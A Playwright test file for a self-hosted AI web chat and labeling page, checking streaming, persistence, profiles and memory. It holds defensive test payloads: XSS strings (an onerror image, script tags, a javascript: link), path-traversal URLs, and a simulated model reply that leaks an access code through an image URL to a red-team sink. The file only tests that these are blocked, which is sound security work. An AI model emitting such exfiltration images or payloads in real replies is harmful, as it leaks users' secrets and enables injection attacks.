"""The web chat in a real browser: Playwright drives Debian's Chromium (`make test` installs it
with apt; Playwright downloads no browser). The screenshot is kept in tests/output/."""

import json
import shutil
import subprocess
from pathlib import Path

import httpx
import pytest

from llmos.agent.profiles import Profile, load_profile, save_profile
from llmos.data.store import Store
from llmos.serve.api import ServeConfig, create_app
from llmos.train.sft import SFTConfig, sft

from .test_serve import KEY, start_server

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
OUTPUT = Path(__file__).parent / "output"

pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)"
)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


def open_chat(browser, url: str):
    """A new page on the web chat with the API key set; (page, every URL it requested)."""
    page = browser.new_page()
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(url)
    page.click("#settings summary")
    page.fill("#api-key", KEY)
    page.dispatch_event("#api-key", "change")
    return page, requests


@pytest.fixture(scope="module")
def page(browser, assistant, tmp_path_factory):
    _, model_dir = assistant
    db = tmp_path_factory.mktemp("web") / "chats.sqlite"
    url, srv = start_server(create_app(model_dir, ServeConfig(api_key=KEY, db=str(db))))
    page, requests = open_chat(browser, url)
    yield page, url, requests
    srv.should_exit = True


def test_chat_streams_and_survives_a_reload(page):
    page, url, requests = page
    page.fill("#temperature", "0")
    page.fill("#input", "What is 1234 * 5678?")
    page.click("#send")
    page.locator(".msg.assistant").first.wait_for()
    page.wait_for_function("() => !document.getElementById('send').hidden")
    assert page.locator(".msg.user").first.inner_text() == "What is 1234 * 5678?"
    # The model called the calculator (shown as it happened) and answered with its result.
    assert "calculator" in page.locator(".msg.tool").first.inner_text()
    assert "7006652" in page.locator(".msg.assistant").last.inner_text()
    shown = page.locator("#messages .msg").all_inner_texts()
    OUTPUT.mkdir(exist_ok=True)
    page.screenshot(path=str(OUTPUT / "web_chat.png"), full_page=True)
    # Reload: the conversation is listed (kept in SQLite) and opens with the same messages.
    page.reload()
    item = page.locator(".conv-item .title", has_text="What is 1234 * 5678?")
    item.wait_for()
    item.click()
    page.locator(".msg.user", has_text="What is 1234 * 5678?").wait_for()
    assert page.locator("#messages .msg").all_inner_texts() == shown
    # Rename and delete from the list (the page asks with prompt() and confirm()).
    page.once("dialog", lambda d: d.accept("Multiplication"))
    page.locator(".conv-item .rename").first.click()
    page.locator(".conv-item .title", has_text="Multiplication").wait_for()
    page.reload()
    page.locator(".conv-item .title", has_text="Multiplication").wait_for()
    page.once("dialog", lambda d: d.accept())
    page.locator(".conv-item .delete").first.click()
    page.locator(".conv-item").wait_for(state="detached")
    assert page.locator("#messages .msg").count() == 0
    assert all(r.startswith(url) for r in requests), "the page loaded something from elsewhere"


def test_markdown_escapes_html_and_loads_no_remote_images(page):
    page, _, _ = page
    html = page.evaluate(
        """() => markdown("<img src=x onerror=alert(1)> **bold** <script>alert(2)</script>\\n"
            + "![cat](https://example.com/cat.png) [link](javascript:alert(3))\\n"
            + "```\\n<b>\\n```")"""
    )
    box = page.evaluate(
        "html => { const d = document.createElement('div'); d.innerHTML = html;"
        " return { img: d.querySelectorAll('img').length, script: d.querySelectorAll('script')"
        ".length, strong: d.querySelectorAll('strong').length, b: d.querySelectorAll('b').length,"
        " hrefs: [...d.querySelectorAll('a')].map(a => a.href) } }",
        html,
    )
    assert box == {
        "img": 0,
        "script": 0,
        "strong": 1,
        "b": 0,
        "hrefs": ["https://example.com/cat.png"],
    }


def test_an_exfiltration_image_in_a_reply_never_reaches_the_sink(page, browser, tmp_path):
    """P4 against the web chat: a reply carrying the access code in an image URL, rendered the
    way the chat renders replies, reaches nothing: markdown makes images links, and the page's
    Content-Security-Policy blocks even a raw <img> to another origin. The control, the same
    <img> on a page without the policy, shows the red-team sink would have seen it."""
    from llmos.security.harness import Lab

    chat, _, _ = page
    lab = Lab(tmp_path)
    try:
        reply = f"Here you go. ![logo]({lab.sink}?c=4417)"
        chat.evaluate(
            "md => { const d = document.createElement('div'); d.innerHTML = markdown(md);"
            " document.body.appendChild(d); }",
            reply,
        )
        chat.evaluate("u => { const i = new Image(); i.src = u; }", lab.sink + "?c=raw")
        chat.wait_for_timeout(700)
        assert lab.sink_hits == []
        blank = browser.new_page()
        blank.set_content(f'<img src="{lab.sink}?c=control">')
        for _ in range(30):
            if lab.sink_hits:
                break
            blank.wait_for_timeout(100)
        blank.close()
        assert lab.sink_hits == ["/logo.png?c=control"]
    finally:
        lab.close()


# -- the python tool in the web chat: a plot made in the sandbox, shown inline ------------------

PLOT_CODE = "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [1, 4, 9])\nplt.savefig('sq.png')"
PLOT_CONVERSATION = [
    {"role": "user", "content": "Plot the squares."},
    {
        "role": "assistant",
        "content": "",
        "tool_calls": [
            {"type": "function", "function": {"name": "python", "arguments": {"code": PLOT_CODE}}}
        ],
    },
    {
        "role": "tool",
        "content": "[sandbox: bubblewrap; exit code 0; 1.0 s]\nfiles: sq.png (17,017 bytes)",
    },
    {"role": "assistant", "content": "Here is the plot: sq.png."},
]
SANDBOX_PLOTS = (
    shutil.which("bwrap")
    and not subprocess.run(
        ["/usr/bin/python3", "-c", "import matplotlib"], capture_output=True
    ).returncode
)


@pytest.fixture(scope="module")
def plotter(base, tmp_path_factory):
    """A tiny assistant fine-tuned on one conversation in which it plots with python."""
    tmp = tmp_path_factory.mktemp("plotter")
    data = tmp / "plot.jsonl"
    data.write_text(json.dumps({"messages": PLOT_CONVERSATION}) + "\n")
    c = SFTConfig(
        base=str(base),
        data=f"{data}:1",
        batch_size=2,
        max_steps=80,
        lr=3e-3,
        warmup_steps=5,
        eval_every=80,
        val_fraction=0.0,
    )
    return sft(c, tmp / "out")


@pytest.mark.skipif(not SANDBOX_PLOTS, reason="needs bubblewrap and Debian's python3-matplotlib")
def test_web_chat_runs_python_and_shows_the_plot(browser, plotter, tmp_path):
    c = ServeConfig(api_key=KEY, db=str(tmp_path / "chats.sqlite"), tools="calculator,python")
    url, srv = start_server(create_app(plotter, c))
    try:
        page, requests = open_chat(browser, url)
        page.fill("#temperature", "0")
        page.fill("#input", "Plot the squares.")
        page.click("#send")
        page.wait_for_function("() => !document.getElementById('send').hidden", timeout=60e3)
        # The model's call ran in the sandbox on the server; the PNG it saved is shown in the
        # tool's message, loaded and decoded by the browser (not a broken image).
        assert "python" in page.locator(".msg.tool").first.inner_text()
        img = page.locator(".msg.tool img.attachment")
        img.wait_for()
        size = img.evaluate("i => i.complete ? [i.naturalWidth, i.naturalHeight] : null")
        assert size and size[0] >= 100 and size[1] >= 100, size
        OUTPUT.mkdir(exist_ok=True)
        page.screenshot(path=str(OUTPUT / "web_chat_plot.png"), full_page=True)
        src = img.get_attribute("src")
        assert all(r.startswith(url) for r in requests)
        # After a reload the conversation, kept in SQLite, shows the same image again.
        page.reload()
        page.locator(".conv-item .title", has_text="Plot the squares.").click()
        page.locator(f'.msg.tool img[src="{src}"]').wait_for()
        # The file is served as a PNG that cannot run anything; names outside the store are not.
        r = httpx.get(url + src)
        assert r.status_code == 200 and r.content[:8] == b"\x89PNG\r\n\x1a\n"
        assert r.headers["content-type"] == "image/png"
        assert "sandbox" in r.headers["content-security-policy"]
        for bad in ("/files/../chats.sqlite", "/files/x/sq.png", src.replace("sq.png", "..")):
            assert httpx.get(url + bad).status_code == 404, bad
    finally:
        srv.should_exit = True


@pytest.fixture(scope="module")
def labeling(browser, assistant, tmp_path_factory):
    """A server whose labeling queue holds two questions, and the /label page on it."""
    _, model_dir = assistant
    tmp = tmp_path_factory.mktemp("label")
    queue = tmp / "queue.jsonl"
    asks = ["What is 1234 * 5678?", "What is 12 * 34?", "Say something."]
    queue.write_text(
        "".join(json.dumps({"prompt": [{"role": "user", "content": a}]}) + "\n" for a in asks)
    )
    db = tmp / "chats.sqlite"
    c = ServeConfig(api_key=KEY, db=str(db), label_prompts=str(queue))
    url, srv = start_server(create_app(model_dir, c))
    yield browser, url, db
    srv.should_exit = True


def test_labeling_page_ranks_edits_undoes_and_exports(labeling, tmp_path):
    from llmos.data.comparisons import read_comparisons
    from llmos.tasks import mixture

    browser, url, db = labeling
    page = browser.new_page()
    page.goto(url + "/label")
    page.fill("#api-key", KEY)
    page.dispatch_event("#api-key", "change")
    page.fill("#labeler", "ada")
    page.dispatch_event("#labeler", "change")
    page.wait_for_function(
        "() => document.getElementById('progress').textContent.includes('3 left')"
    )

    def key(k):  # a key pressed with no text box focused, as after a click on the page
        page.evaluate("document.activeElement && document.activeElement.blur()")
        page.keyboard.press(k)

    def next_prompt():
        key("n")
        page.wait_for_function("() => document.querySelectorAll('.answer').length === 2")

    # 1: the first answer is the best (key 1), submitted with Enter.
    next_prompt()
    first = page.locator(".answer .text").all_inner_texts()
    key("1")
    assert "best" in page.locator(".answer").first.inner_text()
    key("Enter")
    page.wait_for_function(
        "() => document.getElementById('progress').textContent.startsWith('1 labelled')"
    )
    # 2: the person edits the second answer into the ideal one and picks it.
    next_prompt()
    page.locator(".answer .edit-button").nth(1).click()
    page.fill(".answer textarea.edit", "1234 * 5678 = 7006652, by the calculator.")
    page.keyboard.press("Escape")  # leave the text box; the edit stays
    key("2")  # the edited answer is the best
    page.click("#submit")
    page.wait_for_function(
        "() => document.getElementById('progress').textContent.startsWith('2 labelled')"
    )
    # 3: labelled by mistake, then undone.
    next_prompt()
    key("t")  # a tie
    key("Enter")
    page.wait_for_function(
        "() => document.getElementById('progress').textContent.startsWith('3 labelled')"
    )
    key("u")
    page.wait_for_function(
        "() => document.getElementById('progress').textContent.startsWith('2 labelled')"
    )
    assert page.locator(".answer").count() == 2  # back on the page to label again
    OUTPUT.mkdir(exist_ok=True)
    page.screenshot(path=str(OUTPUT / "label.png"), full_page=True)
    # Export: a download of TRL comparisons, the same as the store's.
    with page.expect_download() as dl:
        page.click("#export")
    path = tmp_path / "comparisons.jsonl"
    dl.value.save_as(path)
    recs = read_comparisons(path)
    exported = [json.loads(line) for line in path.read_text().splitlines()]
    assert {r["labeler"] for r in exported} == {"ada"}
    edited = [r for r in recs if r["chosen"][0]["content"].startswith("1234 * 5678 = 7006652")]
    assert edited and all(r["prompt"][0]["content"] == "What is 12 * 34?" for r in edited)
    if first[0] != first[1]:  # two different answers: the first beats the second
        assert any(r["chosen"][0]["content"] == first[0] for r in recs)
    # The same comparisons are training data straight from the store.
    stored = mixture(f"store:comparisons@{db}", 1, 0, kind="comparisons")
    assert [(r["chosen"], r["rejected"]) for r in stored] == [
        (r["chosen"], r["rejected"]) for r in recs
    ]
    page.close()


def test_fix_this_answer_keeps_a_correction_to_fine_tune_on(labeling, assistant, tmp_path):
    from llmos.cli import main
    from llmos.tasks import mixture

    browser, url, db = labeling
    page, _ = open_chat(browser, url)
    page.fill("#temperature", "0")
    page.fill("#input", "What is 1234 * 5678?")
    page.click("#send")
    page.wait_for_function("() => !document.getElementById('send').hidden")
    page.locator(".msg.assistant .fix").last.click()
    page.fill(".msg.assistant textarea.fix-text", "It is 7006652.")
    page.click(".msg.assistant .save-fix")
    page.wait_for_function(
        "() => document.getElementById('status').textContent.includes('fix saved')"
    )
    assert "It is 7006652." in page.locator(".msg.assistant").last.inner_text()
    convs = mixture(f"store:corrections@{db}", 1, 0)
    assert convs[-1]["messages"][0]["content"] == "What is 1234 * 5678?"
    assert convs[-1]["messages"][-1] == {"role": "assistant", "content": "It is 7006652."}
    # ... and `llmos sft --data store:corrections@DB` trains on it.
    _, model_dir = assistant
    data = f"store:corrections@{db}"
    args = [
        "sft",
        str(model_dir),
        "--data",
        data,
        "--max-steps",
        "2",
        "--batch-size",
        "1",
        "--val-fraction",
        "0",
        "--out",
        str(tmp_path / "fixed"),
    ]
    assert main(args) == 0
    page.close()


def test_labeling_page_samples_other_models_blind(browser, assistant, tmp_path, monkeypatch):
    """Answers from the served model and from another endpoint (a scripted stand-in for any
    OpenAI-compatible server), shared out, shuffled and blind; the pick records which model
    wrote what, and the endpoint's key stays on the server."""
    from llmos.data.comparisons import read_comparisons

    from .test_agent import Script

    monkeypatch.setenv("OPENAI_API_KEY", "sk-endpoint-secret")
    other = Script([{"content": "An answer from the other model."}] * 10)
    _, model_dir = assistant
    db = tmp_path / "chats.sqlite"
    c = ServeConfig(api_key=KEY, db=str(db), label_endpoints=f"{other.url}#other-model")
    app = create_app(model_dir, c)
    url, srv = start_server(app)
    try:
        page = browser.new_page()
        requests = []
        page.on("request", lambda r: requests.append((r.url, r.post_data or "")))
        page.goto(url + "/label")
        page.fill("#api-key", KEY)
        page.dispatch_event("#api-key", "change")
        page.wait_for_function("() => document.getElementById('model').textContent.includes(',')")
        assert "other-model" in page.inner_text("#model")
        page.fill("#k", "4")
        page.fill("#prompt", "What is 12 * 34?")
        page.click("#sample")
        page.wait_for_function("() => document.querySelectorAll('.answer').length === 4")
        texts = page.locator(".answer .text").all_inner_texts()
        assert texts.count("An answer from the other model.") == 2  # 4 shared over 2 models
        assert len(other.requests) == 2 and {r["model"] for r in other.requests} == {"other-model"}
        tags = page.locator(".answer .model")
        assert not any(tags.nth(i).is_visible() for i in range(4))  # blind by default
        page.check("#show-models")
        shown = tags.all_inner_texts()
        assert sorted(shown) == sorted(["other-model"] * 2 + [app.state.served.name] * 2)
        best = texts.index("An answer from the other model.")
        # (on its header: a card's centre may be its Edit button when a neighbour is taller)
        page.locator(".answer .head").nth(best).click()
        page.click("#submit")
        page.wait_for_function(
            "() => document.getElementById('progress').textContent.startsWith('1 labelled')"
        )
        # The browser only ever talked to this server; the key never reached it.
        assert all(u.startswith(url) for u, _ in requests)
        assert not any("sk-endpoint-secret" in u + d for u, d in requests)
        r = httpx.get(url + "/api/labels/export", headers={"Authorization": f"Bearer {KEY}"})
        path = tmp_path / "out.jsonl"
        path.write_text(r.text)
        recs = [r for r in read_comparisons(path)]
        raw = [json.loads(line) for line in r.text.splitlines()]
        assert recs and all(x["chosen_model"] == "other-model" for x in raw)
        assert {x["rejected_model"] for x in raw} == {app.state.served.name}
        page.close()
    finally:
        srv.should_exit = True


def test_labeling_endpoint_that_is_down_is_named_not_fatal(assistant, tmp_path):
    _, model_dir = assistant
    c = ServeConfig(db=str(tmp_path / "c.sqlite"), label_endpoints="http://127.0.0.1:9/v1#gone")
    app = create_app(model_dir, c)
    url, srv = start_server(app)
    try:
        body = {"source": 1, "messages": [{"role": "user", "content": "hi"}], "n": 1}
        r = httpx.post(url + "/api/label/sample", json=body, timeout=60)
        assert r.status_code == 502 and "127.0.0.1:9" in r.json()["error"]["message"]
        r = httpx.post(url + "/api/label/sample", json={**body, "source": 2})
        assert r.status_code == 400 and r.json()["error"]["param"] == "source"
        ok = httpx.post(
            url + "/v1/chat/completions",
            json={
                "model": app.state.served.name,
                "max_tokens": 3,
                "messages": [{"role": "user", "content": "hi"}],
            },
        )
        assert ok.status_code == 200  # the server keeps serving
    finally:
        srv.should_exit = True


def test_profiles_and_memory_in_the_web_ui(browser, assistant, tmp_path):
    """Pick a profile (the server then runs the turn with its tools: none, so the model's
    calculator call finds no calculator; the tiny test model is kept to the one conversation
    it learned, so the profile has no instructions), set custom instructions (sent with every
    turn), create a profile in the editor (a TOML file the API lists as a model), and add,
    show and forget a memory."""
    pdir = tmp_path / "profiles"
    save_profile(
        Profile(
            name="pirate",
            description="Counts without a calculator.",
        ),
        pdir,
    )
    c = ServeConfig(api_key=KEY, db=str(tmp_path / "chats.sqlite"), profiles=str(pdir))
    url, srv = start_server(create_app(assistant[1], c))
    try:
        page, _ = open_chat(browser, url)
        page.locator("#profile option[value=pirate]").wait_for(state="attached")
        page.select_option("#profile", "pirate")
        page.fill("#temperature", "0")
        page.fill("#input", "What is 1234 * 5678?")
        with page.expect_request("**/api/chat") as request:
            page.click("#send")
        assert request.value.post_data_json["profile"] == "pirate"
        page.wait_for_function("() => !document.getElementById('send').hidden")
        tool = page.locator(".msg.tool", has_text="tool result").first.inner_text()
        assert "no tool named 'calculator'" in tool  # the profile's (empty) tool set applied
        page.fill("#custom-instructions", "Call me Ann.")
        page.dispatch_event("#custom-instructions", "change")
        page.reload()  # kept in this browser for every chat
        page.locator("#profile option[value=pirate]").wait_for(state="attached")
        assert page.input_value("#custom-instructions") == "Call me Ann."
        page.click("#new-chat")
        page.fill("#input", "Hello")
        with page.expect_request("**/api/chat") as request:
            page.click("#send")
        assert request.value.post_data_json["custom_instructions"] == "Call me Ann."
        page.wait_for_function("() => !document.getElementById('send').hidden")
        # Create a profile in the editor: saved as TOML, listed by the API, picked.
        page.click("#profiles-panel summary")
        page.fill("#pf-name", "helper")
        page.fill("#pf-description", "Short answers.")
        page.fill("#pf-instructions", "Be brief.")
        page.fill("#pf-tools", "calculator")
        page.fill("#pf-temperature", "0.2")
        page.click("#pf-save")
        page.locator("#profile option[value=helper]").wait_for(state="attached")
        p = load_profile("helper", pdir)
        assert (p.instructions, p.tools, p.sampling) == (
            "Be brief.",
            ["calculator"],
            {"temperature": 0.2},
        )
        assert page.input_value("#profile") == "helper"
        models = httpx.get(url + "/v1/models", headers={"Authorization": f"Bearer {KEY}"}).json()
        assert "helper" in [m["id"] for m in models["data"]]
        # Memory: add, shown, forgotten.
        page.click("#memory-panel summary")
        page.fill("#memory-text", "The user's cat is Miso.")
        page.click("#memory-form button")
        page.locator("#memories li", has_text="Miso").wait_for()
        assert Store(c.db).memories()[0]["text"] == "The user's cat is Miso."
        page.locator("#memories li .forget").first.click()
        page.locator("#memories li").wait_for(state="detached")
        assert Store(c.db).memories() == []
        page.screenshot(path=str(OUTPUT / "web_profiles.png"), full_page=True)
    finally:
        srv.should_exit = True
